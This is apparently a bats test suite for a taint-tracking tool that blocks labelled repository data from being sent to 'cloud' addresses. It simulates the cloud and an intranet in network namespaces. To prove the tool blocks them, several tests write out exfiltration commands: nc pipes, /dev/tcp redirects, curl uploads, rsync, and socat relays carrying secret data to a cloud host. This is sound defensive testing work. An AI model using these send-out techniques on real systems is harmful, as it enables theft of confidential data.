#!/usr/bin/env bats
# Network sends. Inside the guest, two network namespaces joined to this one
# by veth pairs: "cloud" (10.20.0.2, fd00:20::2; its ranges are in the
# policy) and "intranet" (192.168.50.2, fd00:50::2; not cloud). A trusted
# backup program may read master-repository data; once it has, neither it nor
# anything its data reaches may send to the cloud.

load lib

CLOUD4=10.20.0.2
CLOUD6=fd00:20::2
INTRA4=192.168.50.2

netns_up() { # NAME HOST_ADDR4 PEER_ADDR4 HOST_ADDR6 PEER_ADDR6
	# another suite's namespace of the same name may linger (a process in it)
	af_netns_del "$1"
	ip link del "af-$1" 2>/dev/null || true
	ip netns add "$1"
	ip link add "af-$1" type veth peer name eth0 netns "$1"
	ip addr add "$2/24" dev "af-$1"
	ip -6 addr add "$4/64" dev "af-$1" nodad
	ip link set "af-$1" up
	ip -n "$1" addr add "$3/24" dev eth0
	ip -n "$1" -6 addr add "$5/64" dev eth0 nodad
	ip -n "$1" link set eth0 up
	ip -n "$1" link set lo up
}

# A sink in namespace NS: everything sent to TCP port 9000 or UDP port 9001
# is appended to $T/NS.received; HTTP PUTs on port 8080 too.
sinks_up() { # NS
	local ns=$1
	ip netns exec "$ns" socat -u TCP6-LISTEN:9000,ipv6only=0,reuseaddr,fork \
		"OPEN:$T/$ns.received,creat,append" &
	echo $! >>"$T/pids"
	ip netns exec "$ns" socat -u UDP6-RECV:9001,ipv6only=0 "OPEN:$T/$ns.received,creat,append" &
	echo $! >>"$T/pids"
	ip netns exec "$ns" python3 -c "
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_PUT(self):
        data = self.rfile.read(int(self.headers['Content-Length']))
        open('$T/$ns.received', 'ab').write(data)
        self.send_response(200); self.end_headers()
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(('0.0.0.0', 8080), H).serve_forever()
" &
	echo $! >>"$T/pids"
}

setup_file() {
	af_fresh_tree
	modprobe veth
	mkdir -p "$T"/{master,sensitive,open,bin,out}
	echo "MASTER-SECRET-$RANDOM" >"$T/master/index.db"
	echo "SENSITIVE-$RANDOM" >"$T/sensitive/list.csv"
	echo "PUBLIC-$RANDOM" >"$T/open/readme.txt"
	cp /bin/bash "$T/bin/backup"          # the trusted backup agent (a shell)
	cp /usr/bin/python3 "$T/bin/pybackup" # the same, written in Python
	cp /bin/bash "$T/bin/archiver"        # may write what it reads: its copies stay labelled
	: >"$T/pids"
	netns_up cloud 10.20.0.1 "$CLOUD4" fd00:20::1 "$CLOUD6"
	netns_up intranet 192.168.50.1 "$INTRA4" fd00:50::1 fd00:50::2
	sinks_up cloud
	sinks_up intranet
	policy "$T/policy.yaml" <<-EOF
	host:
	  cloud:
	    - 10.20.0.0/16
	    - fd00:20::/48
	paths:
	  $T/master: master-repository
	  $T/sensitive: sensitive
	trusted:
	  backup:
	    exe: $T/bin/backup
	    allow:
	      read: [master-repository]
	  pybackup:
	    exe: $T/bin/pybackup
	    allow:
	      read: [master-repository]
	  archiver:
	    exe: $T/bin/archiver
	    allow:
	      read: [master-repository]
	      write: [master-repository]
	EOF
	apply "$T/policy.yaml"
	# let the sinks come up
	for _ in $(seq 50); do
		ip netns exec cloud ss -ltn | grep -q ':8080' && break
		sleep 0.1
	done
}

teardown_file() {
	xargs -r kill <"$T/pids" 2>/dev/null || true
	af_netns_del cloud
	af_netns_del intranet
	af_cleanup
}


# backup SCRIPT: run a script in the trusted shell, which first reads the
# master repository (and so is tainted) when TAINT=1.
backup() {
	local pre=""
	[ "${TAINT:-1}" = 1 ] && pre="read -r data < '$T/master/index.db'; "
	"$T/bin/backup" -c "$pre$1"
}

@test "curl upload: refused after reading master-repository, allowed without" {
	quiet backup "curl -sS --max-time 5 -T '$T/open/readme.txt' http://$CLOUD4:8080/x"
	[ "$status" -eq 7 ] # couldn't connect
	TAINT=0 quiet backup "curl -sS --max-time 5 -T '$T/open/readme.txt' http://$CLOUD4:8080/y"
	[ "$status" -eq 0 ]
	grep -q PUBLIC "$T/cloud.received"
	! grep -q MASTER "$T/cloud.received"
}

@test "nc over TCP and a child shell's /dev/tcp: refused to the cloud, allowed to the intranet" {
	quiet backup "echo \"\$data\" | nc -N -w 3 $CLOUD4 9000"
	[ "$status" -ne 0 ]
	quiet backup "bash -c 'echo \"\$data\" > /dev/tcp/$CLOUD4/9000'"
	[ "$status" -ne 0 ]
	# The intranet host is simulated in this kernel: what it receives from
	# a tainted sender taints it, so its sink cannot write it down. The
	# send itself succeeding is the allowed twin.
	quiet backup "echo \"\$data\" | nc -N -w 3 $INTRA4 9000"
	[ "$status" -eq 0 ]
	sleep 0.5
	! grep -q MASTER "$T/cloud.received"
}

@test "UDP sendto without connect: refused to the cloud, allowed untainted" {
	script="import socket,sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b'UDP-' + sys.argv[1].encode(), ('$CLOUD4', 9001))
except PermissionError:
    sys.exit(13)"
	quiet "$T/bin/pybackup" -c "open('$T/master/index.db').read()
$script" TAINTED
	[ "$status" -eq 13 ]
	quiet "$T/bin/pybackup" -c "$script" UNTAINTED
	[ "$status" -eq 0 ]
	sleep 0.5
	grep -q UDP-UNTAINTED "$T/cloud.received"
}

@test "a socket connected before the taint: send and sendfile refused afterwards" {
	quiet "$T/bin/pybackup" -c "
import socket, sys
s = socket.create_connection(('$CLOUD4', 9000))
s.sendall(b'BEFORE-TAINT\n')
data = open('$T/master/index.db').read()
refused = 0
try:
    s.sendall(data.encode())
except PermissionError:
    refused += 1
try:
    s.sendfile(open('$T/open/readme.txt', 'rb'))
except PermissionError:
    refused += 1
sys.exit(10 + refused)
"
	[ "$status" -eq 12 ] # both refused
	sleep 0.5
	grep -q BEFORE-TAINT "$T/cloud.received"
	! grep -q MASTER "$T/cloud.received"
}

@test "IPv6 and IPv4-mapped IPv6 destinations are covered" {
	quiet "$T/bin/pybackup" -c "
import socket, sys
open('$T/master/index.db').read()
refused = 0
for addr in ('$CLOUD6', '::ffff:$CLOUD4'):
    s = socket.socket(socket.AF_INET6)
    try:
        s.connect((addr, 9000))
    except PermissionError:
        refused += 1
sys.exit(10 + refused)
"
	[ "$status" -eq 12 ] # both refused
	run "$T/bin/pybackup" -c "
import socket
for addr in ('$CLOUD6', '::ffff:$CLOUD4'):
    s = socket.socket(socket.AF_INET6); s.connect((addr, 9000))
print('ok')
"
	[ "$status" -eq 0 ] && [ "$output" = ok ]
}

@test "rsync to a cloud rsync daemon: refused tainted, allowed untainted" {
	cat >"$T/rsyncd.conf" <<-EOF
	[up]
	path = $T/out
	read only = false
	use chroot = false
	uid = root
	gid = root
	EOF
	ip netns exec cloud rsync --daemon --no-detach --port 8730 --config "$T/rsyncd.conf" &
	echo $! >>"$T/pids"
	sleep 1
	quiet backup "rsync '$T/open/readme.txt' rsync://$CLOUD4:8730/up/r1"
	[ "$status" -ne 0 ]
	TAINT=0 quiet backup "rsync '$T/open/readme.txt' rsync://$CLOUD4:8730/up/r2"
	[ "$status" -eq 0 ]
	[ -e "$T/out/r2" ] && [ ! -e "$T/out/r1" ]
}

@test "taint crosses a pipe: the reader of a tainted writer cannot send to the cloud" {
	# nc connects before it reads the pipe; its send is what is refused
	quiet sh -c "'$T/bin/backup' -c 'read -r d < \"$T/master/index.db\"; echo \"PIPE-\$d\"' | nc -N -w 3 $CLOUD4 9000"
	sleep 0.5
	! grep -q PIPE-MASTER "$T/cloud.received"
	! grep -q MASTER "$T/cloud.received"
	# the same pipeline without the labelled read delivers
	quiet sh -c "'$T/bin/backup' -c 'echo PIPE-UNTAINTED' | nc -N -w 3 $CLOUD4 9000"
	[ "$status" -eq 0 ]
	sleep 0.5
	grep -q PIPE-UNTAINTED "$T/cloud.received"
}

@test "taint crosses a Unix socket: a relay to the cloud is refused" {
	socat -u "UNIX-LISTEN:$T/relay.sock,fork" "TCP:$CLOUD4:9000" &
	echo $! >>"$T/pids"
	sleep 0.5
	quiet backup "echo \"UNIX-\$data\" | socat -u STDIN UNIX-CONNECT:'$T/relay.sock'"
	TAINT=0 quiet backup "echo UNIX-UNTAINTED | socat -u STDIN UNIX-CONNECT:'$T/relay.sock'"
	[ "$status" -eq 0 ]
	sleep 1
	grep -q UNIX-UNTAINTED "$T/cloud.received"
	! grep -q UNIX-MASTER "$T/cloud.received"
}

@test "a copy written by a tainted process is labelled, and reading it is refused" {
	# the archiver may write master-repository data: its copy is labelled
	quiet "$T/bin/archiver" -c "read -r d < '$T/master/index.db'; echo \"\$d\" > '$T/open/copy.txt'"
	[ "$status" -eq 0 ]
	# (stat of it is a listing of master-repository, refused: the controller may look)
	run "$AF" explain "$T/open/copy.txt"
	[[ "$output" == *master-repository* ]] || { echo "$output" >&2; false; }
	refused read "$T/open/copy.txt"
	# a program only granted reads cannot write what it read anywhere
	quiet backup "echo \"\$data\" > '$T/open/copy2.txt'"
	[ "$status" -ne 0 ]
	[ ! -e "$T/open/copy2.txt" ]
	# untainted, the same writes are ordinary files
	TAINT=0 quiet backup "echo clean > '$T/open/clean.txt'"
	allowed read "$T/open/clean.txt"
	run "$AF" events --json
	[ "$(jq -s 'map(select(.path == "'$T/open/copy.txt'")) | length' <<<"$output")" -gt 0 ]
}

@test "sensitive data may be sent, and each send is audited with its destination" {
	"$AF" events >/dev/null
	run python3 -c "
import socket
d = open('$T/sensitive/list.csv').read()
s = socket.create_connection(('$CLOUD4', 9000)); s.sendall(d.encode()); s.close(); print('sent')
"
	[ "$status" -eq 0 ] && [ "$output" = sent ]
	run "$AF" events --json
	# one record, and a summary of its repeats when the window has passed meanwhile
	n=$(jq -s 'map(select(.op == "send" and .action == "audit" and .destination == "'$CLOUD4':9000" and .labels == "sensitive")) | length' <<<"$output")
	[ "$n" -ge 1 ] && [ "$n" -le 2 ]
}

@test "unlabelled traffic to the cloud is untouched, and refused sends are recorded with the destination" {
	"$AF" events >/dev/null
	run sh -c "echo UNLABELLED | nc -N -w 3 $CLOUD4 9000"
	[ "$status" -eq 0 ]
	quiet backup "echo x | nc -N -w 3 $CLOUD4 9000"
	[ "$status" -ne 0 ]
	run "$AF" events --json
	[ "$(jq -s 'map(select(.op == "send" and .action == "deny" and .destination == "'$CLOUD4':9000" and .labels == "master-repository")) | length' <<<"$output")" -ge 1 ]
	sleep 0.5
	grep -q UNLABELLED "$T/cloud.received"
}

@test "taint crosses loopback TCP and UDP: a local relay to the cloud is refused" {
	socat -u TCP-LISTEN:3128,bind=127.0.0.1,reuseaddr,fork "TCP:$CLOUD4:9000" &
	echo $! >>"$T/pids"
	socat -u UDP-RECV:3129,bind=127.0.0.1 "TCP:$CLOUD4:9000" &
	echo $! >>"$T/pids"
	sleep 0.5
	quiet backup "echo \"TCPRELAY-\$data\" | nc -N -w 3 127.0.0.1 3128"
	quiet backup "echo \"UDPRELAY-\$data\" | nc -u -w 1 127.0.0.1 3129"
	TAINT=0 quiet backup "echo TCPRELAY-UNTAINTED | nc -N -w 3 127.0.0.1 3128"
	[ "$status" -eq 0 ]
	sleep 1
	grep -q TCPRELAY-UNTAINTED "$T/cloud.received"
	! grep -q TCPRELAY-MASTER "$T/cloud.received"
	! grep -q UDPRELAY-MASTER "$T/cloud.received"
	# the relay's refusal is on record
	run "$AF" events --json
	[ "$(jq -s 'map(select(.op == "send" and .action == "deny" and .comm == "socat")) | length' <<<"$output")" -ge 1 ]
}
